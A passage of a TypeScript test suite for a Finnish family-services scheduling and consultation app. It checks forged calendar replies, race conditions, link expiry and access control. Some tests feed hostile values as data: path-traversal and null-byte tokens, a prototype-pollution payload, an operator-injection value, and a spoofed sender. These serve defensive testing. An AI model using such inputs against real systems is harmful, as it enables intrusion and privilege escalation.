      const p = await get(form);
      const requestId = /name="requestId" value="([^"]+)"/.exec(p.body)?.[1] ?? '';
      const res = await post(null, form, form, {
        requestId,
        topic: 'Koulu',
        who: '',
        email: 'Maija.Perhe@Example.FI',
      });
      expect(res.statusCode).toBe(303);
      const [family] = await participants(requestId);
      expect(family?.email).toBe('maija.perhe@example.fi');
    });
  });

  // ---------------------------------------------------------------- calendar replies by e-mail

  describe('calendar replies by e-mail', () => {
    async function deliver(from: string | null, ics: string) {
      const outcomes: ReplyOutcome[] = [];
      const result = await handleInboundMessage(await rawMail(from, ics), async (reply) => {
        outcomes.push(await recordCalendarReply(db(), reply));
      });
      return { result, outcomes };
    }
    const partstats = async (id: string) =>
      Object.fromEntries((await participants(id)).map((p) => [p.email, p.partstat]));

    it('records nothing from a forged sender, or from a mail without a From', async () => {
      const m = await invited();
      const uid = (await meetingRow(m.id)).ical_uid;
      const ics = replyCalendar([replyEvent(uid, 0, [['outi@example.fi', 'DECLINED']])]);
      const before = await partstats(m.id);
      expect((await deliver('mallory@example.fi', ics)).outcomes).toEqual(['sender_mismatch']);
      const none = await deliver(null, ics);
      expect(none.outcomes).toEqual([]);
      expect(none.result.status).toBe('no_sender');
      expect(await partstats(m.id)).toEqual(before);
      // the real one is recorded
      expect((await deliver('outi@example.fi', ics)).outcomes).toEqual(['recorded']);
      expect((await partstats(m.id))['outi@example.fi']).toBe('DECLINED');
    });

    it('records nothing for a cancelled meeting, nor for an older SEQUENCE', async () => {
      const m = await invited();
      const uid = (await meetingRow(m.id)).ical_uid;
      expect((await step(m.id, 'reschedule', { start: ahead(20, 10) })).statusCode).toBe(303);
      const old = replyCalendar([replyEvent(uid, 0, [['outi@example.fi', 'ACCEPTED']])]);
      expect((await deliver('outi@example.fi', old)).outcomes).toEqual(['old_sequence']);
      expect((await step(m.id, 'cancel', { reason: 'Perhe perui' })).statusCode).toBe(303);
      const seq = (await meetingRow(m.id)).ical_sequence;
      const late = replyCalendar([replyEvent(uid, seq, [['outi@example.fi', 'ACCEPTED']])]);
      expect((await deliver('outi@example.fi', late)).outcomes).toEqual(['not_open']);
      expect((await partstats(m.id))['outi@example.fi']).toBe('NEEDS-ACTION');
    });

    it("records only the sender's own answer from a REPLY naming two attendees", async () => {
      const m = await invited();
      const uid = (await meetingRow(m.id)).ical_uid;
      const ics = replyCalendar([
        replyEvent(uid, 0, [
          ['outi@example.fi', 'ACCEPTED'],
          ['sami@example.fi', 'DECLINED'],
        ]),
      ]);
      const { outcomes } = await deliver('outi@example.fi', ics);
      expect(outcomes.sort()).toEqual(['recorded', 'sender_mismatch']);
      const after = await partstats(m.id);
      expect(after['outi@example.fi']).toBe('ACCEPTED');
      expect(after['sami@example.fi']).toBe('NEEDS-ACTION');
    });

    it('reads at most 20 answers of a mail with 500 VEVENTs', async () => {
      const m = await invited();
      const events = Array.from({ length: 500 }, (_, i) =>
        replyEvent(`${randomUUID()}@perheverkko`, i, [['outi@example.fi', 'ACCEPTED']]),
      );
      const started = Date.now();
      const { result, outcomes } = await deliver('outi@example.fi', replyCalendar(events));
      expect(result.replies).toBeLessThanOrEqual(20);
      expect(outcomes.every((o) => o === 'unknown_meeting')).toBe(true);
      expect(Date.now() - started).toBeLessThan(20_000);
      expect((await partstats(m.id))['outi@example.fi']).toBe('NEEDS-ACTION');
    });

    it("a REPLY as the family changes the family's answer only, and reveals nothing", async () => {
      const m = await invited();
      const uid = (await meetingRow(m.id)).ical_uid;
      const before = await partstats(m.id);
      const lastOut = await lastOutboxId();
      const { outcomes } = await deliver(
        'maija@example.fi',
        replyCalendar([replyEvent(uid, 0, [['maija@example.fi', 'TENTATIVE']])]),
      );
      expect(outcomes).toEqual(['recorded']);
      expect(await partstats(m.id)).toEqual({ ...before, 'maija@example.fi': 'TENTATIVE' });
      // nothing is sent back (no answer to a mail)
      expect(await lastOutboxId()).toBe(lastOut);
    });

    it('answers a buildReply for another meeting with that meeting only', async () => {
      const a = await invited();
      const b = await invited();
      const rowB = await meetingRow(b.id);
      const ics = buildReply({
        uid: rowB.ical_uid,
        sequence: 0,
        stamp: new Date(),
        start: rowB.starts_at as Date,
        end: rowB.ends_at as Date,
        organizer: { name: 'X', email: REPLY_ADDRESS },
        attendee: { email: 'outi@example.fi' },
        partstat: 'DECLINED',
      });
      expect((await deliver('outi@example.fi', ics)).outcomes).toEqual(['recorded']);
      expect((await partstats(a.id))['outi@example.fi']).toBe('NEEDS-ACTION');
      expect((await partstats(b.id))['outi@example.fi']).toBe('DECLINED');
    });
  });

  // ---------------------------------------------------------------- two at once

  describe('two at once', () => {
    it('two organisers lock different slots of one meeting at once: one wins, the other is 409', async () => {
      const m = await meetingWithPoll();
      const [s1, s2] = await slots(m.id);
      const version = String((await meetingRow(m.id)).version);
      const one = await openForm('neuvoja', page(m.id));
      const two = await openForm('neuvoja2', page(m.id));
      const results = await Promise.all([
        one(`${page(m.id)}/lock`, { version, slotId: s1?.id ?? '' }),
        two(`${page(m.id)}/lock`, { version, slotId: s2?.id ?? '' }),
      ]);
      expect(results.map((r) => r.statusCode).sort()).toEqual([303, 409]);
      const row = await meetingRow(m.id);
      expect(row.state).toBe('time_locked');
      expect([s1?.id, s2?.id]).toContain(row.locked_slot_id);
      const locks = await db()
        .selectFrom('meeting_event')
        .select('id')
        .where('meeting_id', '=', m.id)
        .where('kind', '=', 'locked')
        .execute();
      expect(locks).toHaveLength(1);
    });

    it('two invitation sends at once: each participant gets exactly one REQUEST', async () => {
      const m = await meetingWithPoll();
      const [slot] = await slots(m.id);
      expect((await step(m.id, 'lock', { slotId: slot?.id ?? '' })).statusCode).toBe(303);
      const version = String((await meetingRow(m.id)).version);
      const one = await openForm('neuvoja', page(m.id));
      const two = await openForm('neuvoja2', page(m.id));
      const before = await lastOutboxId();
      const results = await Promise.all([
        one(`${page(m.id)}/invite`, { version }),
        two(`${page(m.id)}/invite`, { version }),
      ]);
      expect(results.map((r) => r.statusCode).sort()).toEqual([303, 409]);
      const sent = await mailsSince('meeting.invitation', before);
      const recipients = sent.map((r) => r.recipient).sort();
      expect(recipients).toEqual(['maija@example.fi', 'outi@example.fi', 'sami@example.fi']);
    });
  });

  describe('the same form twice at once (a double click)', () => {
    it('starts one meeting', async () => {
      const contact = await newContact();
      const form = await openForm('neuvoja', `/fi/staff/meetings/new?contact=${contact.id}`);
      const meetingId = randomUUID();
      const fields = { meetingId, contactId: contact.id, duration: '90' };
      const results = await Promise.all([
        form('/fi/staff/meetings', fields),
        form('/fi/staff/meetings', fields),
      ]);
      expect(results.map((r) => r.statusCode)).toEqual([303, 303]);
      expect(
        await db().selectFrom('meeting').select('id').where('contact_id', '=', contact.id).execute(),
      ).toHaveLength(1);
    });

    it('adds one participant', async () => {
      const contact = await newContact();
      const id = await start(contact.id);
      const form = await openForm('neuvoja', page(id));
      const fields = {
        source: 'external',
        participantId: randomUUID(),
        language: 'fi',
        name: 'Outi Opettaja',
        organizationName: 'Jynkän koulu',
        email: 'outi@example.fi',
      };
      const results = await Promise.all([
        form(`${page(id)}/participants`, fields),
        form(`${page(id)}/participants`, fields),
      ]);
      expect(results.map((r) => r.statusCode)).toEqual([303, 303]);
      expect(await participants(id)).toHaveLength(1);
    });

    it('sends one consultation', async () => {
      const consultationId = randomUUID();
      const payload = {
        consultationId,
        kind: 'consultation',
        about: 'anonymous',
        question: 'Miten tukea lasta?',
        notIdentifying: true,
      };
      const send = () =>
        call(t.app, { method: 'POST', url: '/api/consultations', cookie: sessions.kumppani, payload });
      const results = await Promise.all([send(), send()]);
      expect(results.map((r) => r.statusCode)).toEqual([201, 201]);
      expect(
        await db().selectFrom('consultation').select('id').where('id', '=', consultationId).execute(),
      ).toHaveLength(1);
    });
  });

  // ---------------------------------------------------------------- the private links past their time

  describe('private links', () => {
    it("a removed participant's link is not found; a cancelled meeting's is gone; 31 days after, gone", async () => {
      const m = await invited();
      const sami = m.invitations.find((r) => r.recipient === 'sami@example.fi') as OutboxRow;
      const outi = m.invitations.find((r) => r.recipient === 'outi@example.fi') as OutboxRow;
      const samiId = (await participants(m.id)).find((p) => p.email === 'sami@example.fi')?.id ?? '';
      expect((await step(m.id, 'participants/remove', { participantId: samiId })).statusCode).toBe(303);
      expect((await get(pollUrl(sami))).statusCode).toBe(404);
      const open = await openForm(null, pollUrl(outi));
      expect((await get(pollUrl(outi))).statusCode).toBe(200);
      // a meeting 31 days past
      const past = new Date(Date.now() - 31 * 86_400_000);
      await db()
        .updateTable('meeting')
        .set({ starts_at: past, ends_at: new Date(past.getTime() + 90 * 60_000) })
        .where('id', '=', m.id)
        .execute();
      expect((await get(pollUrl(outi))).statusCode).toBe(410);
      expect((await open(`${pollUrl(outi)}/reply`, { partstat: 'ACCEPTED' })).statusCode).toBe(410);
      expect((await participants(m.id)).find((p) => p.email === 'outi@example.fi')?.partstat).toBe(
        'NEEDS-ACTION',
      );
      // cancelled
      const c = await invited();
      const link = c.invitations.find((r) => r.recipient === 'outi@example.fi') as OutboxRow;
      const form = await openForm(null, pollUrl(link));
      expect((await step(c.id, 'cancel', { reason: '' })).statusCode).toBe(303);
      expect((await get(pollUrl(link))).statusCode).toBe(410);
      expect((await form(`${pollUrl(link)}/reply`, { partstat: 'ACCEPTED' })).statusCode).toBe(410);
    });

    it("the family's poll link and status page after the contact is closed", async () => {
      const m = await meetingWithPoll();
      const family = m.polls.find((r) => r.recipient === 'maija@example.fi') as OutboxRow;
      expect((await get(pollUrl(family))).statusCode).toBe(200);
      const claim = await call(t.app, {
        method: 'POST',
        url: `/api/contacts/${m.contact.id}/claim`,
        cookie: sessions.neuvoja,
        payload: {},
      });
      expect(claim.statusCode, claim.body).toBeLessThan(300);
      const version = (
        await db()
          .selectFrom('contact')
          .select('version')
          .where('id', '=', m.contact.id)
          .executeTakeFirstOrThrow()
      ).version;
      const closed = await call(t.app, {
        method: 'POST',
        url: `/api/contacts/${m.contact.id}/close`,
        cookie: sessions.neuvoja,
        payload: { outcome: { outcome: 'resolved_one_contact' }, version },
      });
      expect(closed.statusCode, closed.body).toBe(204);
      // the meeting outlives the contact's closing: the family still answers its own poll,
      // and sees nobody else's name or address
      const after = await get(pollUrl(family));
      expect(after.statusCode).toBe(200);
      for (const other of ['Outi Opettaja', 'Sami', 'outi@example.fi', 'sami@example.fi'])
        expect(after.body).not.toContain(other);
      // but it cannot ask for a new one
      const form = await get(`/fi/tilanne/${m.contact.token}/meeting/request`);
      expect(form.statusCode).toBe(409);
      // a status link of another contact never opens this meeting's family link
      const other = await newContact();
      expect((await get(`/fi/tilanne/${other.token}/meeting/${m.id}/calendar`)).statusCode).toBe(404);
    });

    it('a poll answer with 2,000 stray slot fields, or a reply PARTSTAT not offered, changes nothing', async () => {
      const m = await meetingWithPoll();
      const outi = m.polls.find((r) => r.recipient === 'outi@example.fi') as OutboxRow;
      const url = pollUrl(outi);
      const form = await openForm(null, url);
      const stray = Object.fromEntries(Array.from({ length: 2000 }, () => [`slot-${randomUUID()}`, 'yes']));
      const res = await form(`${url}/answers`, stray);
      expect(res.statusCode).toBe(400);
      for (const partstat of ['NEEDS-ACTION', 'DELEGATED', 'accepted', '']) {
        const r = await form(`${url}/reply`, { partstat });
        expect([400, 409], partstat).toContain(r.statusCode);
      }
      const outiId = (await participants(m.id)).find((p) => p.email === 'outi@example.fi')?.id ?? '';
      expect(
        await db()
          .selectFrom('meeting_vote')
          .select('slot_id')
          .where('participant_id', '=', outiId)
          .execute(),
      ).toHaveLength(0);
    });

    it('an altered or foreign token is not found, never a 500', async () => {
      for (const token of ['x'.repeat(43), `${'A'.repeat(42)}%00`, '..%2F..%2Fetc', 'a'.repeat(100)]) {
        const res = await get(`/fi/yhdessa-aika/${token}`);
        expect([404, 400], token).toContain(res.statusCode);
      }
    });
  });

  // ---------------------------------------------------------------- consultations

  describe('consultations', () => {
    async function consultation(who = 'kumppani'): Promise<string> {
      const res = await call(t.app, {
        method: 'POST',
        url: '/api/consultations',
        cookie: sessions[who],
        payload: {
          kind: 'consultation',
          about: 'anonymous',
          question: 'Miten tukea lasta, joka ei halua mennä kouluun?',
          notIdentifying: true,
        },
      });
      expect(res.statusCode, res.body).toBe(201);
      return (res.json() as { id: string }).id;
    }
    const rowOf = (id: string) =>
      db()
        .selectFrom('consultation')
        .select(['state', 'version', 'requester_id'])
        .where('id', '=', id)
        .executeTakeFirstOrThrow();

    it('answers values of the wrong type with a coded 400, never a 500', async () => {
      for (const payload of [
        { kind: ['consultation'], about: { x: 1 }, question: { $ne: '' } },
        {
          kind: 'cowork',
          about: 'anonymous',
          question: 'Työpari?',
          coworkAt: 12,
          coworkPlace: [],
          unitId: {},
        },
        {
          kind: 'consultation',
          about: 'identified',
          question: 'Perhe',
          familyName: ['a', 'b'],
          consentGivenOn: 9e99,
        },
        { __proto__: { admin: true }, constructor: { prototype: { x: 1 } }, kind: 'consultation' },
      ]) {
        const res = await call(t.app, {
          method: 'POST',
          url: '/api/consultations',
          cookie: sessions.kumppani,
          payload,
        });
        expect(res.statusCode, JSON.stringify(payload)).toBe(400);
        expect((res.json() as { error?: { code?: string } }).error?.code).toBeTruthy();
      }
      const id = await consultation('kumppani');
      for (const payload of [{ body: { x: 1 } }, { body: ['a'] }, { version: { x: 1 }, body: 'Hei' }]) {
        const res = await call(t.app, {
          method: 'POST',
          url: `/api/consultations/${id}/reply`,
          cookie: sessions.kumppani,
          payload,
        });
        expect(res.statusCode, JSON.stringify(payload)).toBeLessThan(500);
      }
    });

    it("takes no step on another requester's consultation from its page either (404)", async () => {
      const id = await consultation('kumppani');
      const before = await rowOf(id);
      const form = await openForm('opettaja', '/fi/staff/my-consultations');
      for (const name of ['reply', 'claim', 'close']) {
        const res = await form(`/fi/staff/consultations/${id}/${name}`, {
          body: 'Minä',
          version: '1',
          outcome: 'advice_given',
        });
        expect(res.statusCode, name).toBe(404);
      }
      expect((await get(`/fi/staff/consultations/${id}`, 'opettaja')).statusCode).toBe(404);
      expect(await rowOf(id)).toEqual(before);
      // the requester's own reply from the same route is taken (the route is there)
      const own = await openForm('kumppani', `/fi/staff/consultations/${id}`);
      const ok = await own(`/fi/staff/consultations/${id}/reply`, {
        body: 'Lisätieto',
        version: String(before.version),
      });
      expect(ok.statusCode).toBe(303);
    });

    it("takes no step on another requester's consultation (404), changes nothing", async () => {
      const id = await consultation('kumppani');
      const before = await rowOf(id);
      for (const name of ['reply', 'claim', 'answer', 'decline', 'close']) {
        const res = await call(t.app, {
          method: 'POST',
          url: `/api/consultations/${id}/${name}`,
          cookie: sessions.opettaja,
          payload: { body: 'Minä vastaan', outcome: 'advice_given' },
        });
        expect([403, 404], name).toContain(res.statusCode);
      }
      expect(
        (await call(t.app, { url: `/api/consultations/${id}`, cookie: sessions.opettaja })).statusCode,
      ).toBe(404);
      expect(await rowOf(id)).toEqual(before);
      // another region's counsellor
      const claim = await call(t.app, {
        method: 'POST',
        url: `/api/consultations/${id}/claim`,
        cookie: sessions['pirkanmaa-neuvoja'],
        payload: {},
      });
      expect(claim.statusCode).toBe(404);
      expect(await rowOf(id)).toEqual(before);
    });

    it("sending a new request with another's consultation id makes nothing and tells nothing (a coded 4xx)", async () => {
      const id = await consultation('kumppani');
      const before = await rowOf(id);
      const res = await call(t.app, {
        method: 'POST',
        url: '/api/consultations',
        cookie: sessions.opettaja,
        payload: {
          consultationId: id,
          kind: 'consultation',
          about: 'anonymous',
          question: 'Toinen kysymys.',
          notIdentifying: true,
        },
      });
      expect(res.statusCode).toBeGreaterThanOrEqual(400);
      expect(res.statusCode).toBeLessThan(500);
      expect((res.json() as { error?: { code?: string } }).error?.code).toBeTruthy();
      expect(await rowOf(id)).toEqual(before);
      // the requester's own retry is still the same request
      const again = await call(t.app, {
        method: 'POST',
        url: '/api/consultations',
        cookie: sessions.kumppani,
        payload: {
          consultationId: id,
          kind: 'consultation',
          about: 'anonymous',
          question: 'Miten tukea lasta, joka ei halua mennä kouluun?',
          notIdentifying: true,
        },
      });
      expect(again.statusCode).toBe(201);
    });

    it('a co-work request naming a unit of another region is refused (400), nothing saved', async () => {
      const unit = await db()
        .selectFrom('unit')
        .innerJoin('organization', 'organization.id', 'unit.organization_id')
        .innerJoin('region', 'region.id', 'organization.region_id')
        .select('unit.id')
        .where('region.code', '!=', 'pohjois-savo')
        .executeTakeFirst();
      const unitId = unit?.id ?? randomUUID();
      const before = (await db().selectFrom('consultation').select('id').execute()).length;
      const res = await call(t.app, {
        method: 'POST',
        url: '/api/consultations',
        cookie: sessions.kumppani,
        payload: {
          kind: 'cowork',
          about: 'anonymous',
          question: 'Tarvitsemme työparia.',
          notIdentifying: true,
          coworkAt: ahead(5),
          coworkPlace: 'Jynkän koulu',
          unitId,
        },
      });
      expect(res.statusCode).toBe(400);
      const code = (res.json() as { error: { fields?: { code: string }[] } }).error.fields?.[0]?.code;
      expect(['consultation.unit_unknown', 'consultation.unit_not_counselling']).toContain(code);
      expect((await db().selectFrom('consultation').select('id').execute()).length).toBe(before);
    });
  });
});
